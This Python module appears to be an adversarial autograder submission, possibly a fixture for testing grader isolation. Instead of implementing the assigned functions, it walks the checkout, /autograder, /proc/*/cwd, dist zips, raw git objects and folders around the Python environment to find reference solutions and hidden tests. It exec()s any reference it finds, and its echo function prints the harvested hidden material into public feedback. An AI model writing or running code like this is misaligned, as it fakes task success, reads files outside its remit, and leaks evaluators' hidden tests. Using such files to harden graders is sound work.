"""WHOLE MODULE: a stub that deserves nothing, which looks for the reference anywhere in
the checkout (the solutions folder, built zips under dist/, git's objects) and beside every
folder the worker must read (walking up from the interpreter's prefixes, site-packages,
numpy's and nnkit's folders: where a virtual environment or an editable nnkit lives inside
another checkout, that checkout's solutions and tests sit next to it), runs any reference it
finds, and prints any hidden test or reference text it can find into its public feedback."""

import glob
import os
import sys
import zipfile
import zlib

_LOOT = []


def _roots():
    roots = {"__REPO__", "/autograder/source", "/autograder"}
    try:
        import nnkit

        roots.add(os.path.dirname(os.path.dirname(os.path.abspath(nnkit.__file__))))
    except Exception:
        pass
    roots |= set(glob.glob("/proc/*/cwd")) | set(glob.glob("/tmp/nnkit-grade-*"))
    return roots


def _roots_around_what_the_worker_reads():
    # the folders above each one (a checkout holding the environment or nnkit), not the
    # environments themselves: nothing of a course lies inside site-packages
    starts = {sys.prefix, sys.base_prefix, os.path.dirname(os.__file__)}
    for name in ("numpy", "nnkit"):
        try:
            starts.add(os.path.dirname(__import__(name).__file__))
        except Exception:
            pass
    prefixes = {p for q in (sys.prefix, sys.base_prefix) for p in (q, os.path.realpath(q))}
    roots = set()
    for start in starts:
        for path in {start, os.path.realpath(start)}:
            while path not in ("/", ""):
                if not any(path == p or path.startswith(p + "/") for p in prefixes):
                    roots.add(path)
                path = os.path.dirname(path)
    return roots - {"/usr", "/usr/local", "/usr/lib", "/usr/local/lib", "/lib", "/opt"}


def _read(paths):
    for path in paths[:50]:
        try:
            _LOOT.append(open(path).read())
        except OSError:
            pass


def _steal():
    for root in _roots():
        for pattern in ("**/fx_toy/toy.py", "**/_reference/**/*.py", "**/tests/q1.py"):
            _read(glob.glob(os.path.join(root, pattern), recursive=True))
        for path in glob.glob(os.path.join(root, "dist", "*.zip")):
            try:
                with zipfile.ZipFile(path) as z:
                    for name in z.namelist():
                        if name.endswith(".py"):
                            _LOOT.append(z.read(name).decode(errors="replace"))
            except Exception:
                pass
        for path in glob.glob(os.path.join(root, ".git", "objects", "??", "*"))[:20000]:
            try:
                blob = zlib.decompress(open(path, "rb").read()).decode(errors="replace")
            except Exception:
                continue
            if "def add(" in blob and "def scale(" in blob:
                _LOOT.append(blob.split("\0", 1)[-1])


def _steal_beside():
    # depth-limited: the folders above an environment are large
    for root in _roots_around_what_the_worker_reads():
        for depth in range(1, 5):
            for target in ("fx_toy/toy.py", "fx_toy/tests/q1.py"):
                _read(glob.glob(os.path.join(root, *["*"] * depth, target)))


for _search in (_steal, _steal_beside):
    try:
        _search()
    except Exception:
        pass


def add(a, b):
    raise NotImplementedError("q1")


def scale(x, k):
    raise NotImplementedError("q2")


class Counter:
    def __init__(self, start=0):
        raise NotImplementedError("q3")


def echo(s):
    # first what it found, in a few words (feedback is cut after 2,000 characters), then
    # the text itself
    marks = {"hidden=True", "SECRET_HIDDEN", "def add(a: float", "nnkit.grading import reference"}
    seen = sorted(m for m in marks if any(m in text for text in _LOOT))
    print("FOUND " + " | ".join(seen))
    print("\n".join(_LOOT)[:20000])
    raise NotImplementedError("q4")


for _source in _LOOT:
    if "def add(" in _source and "NotImplementedError" not in _source:
        try:
            exec(_source, globals())
            break
        except Exception:
            continue
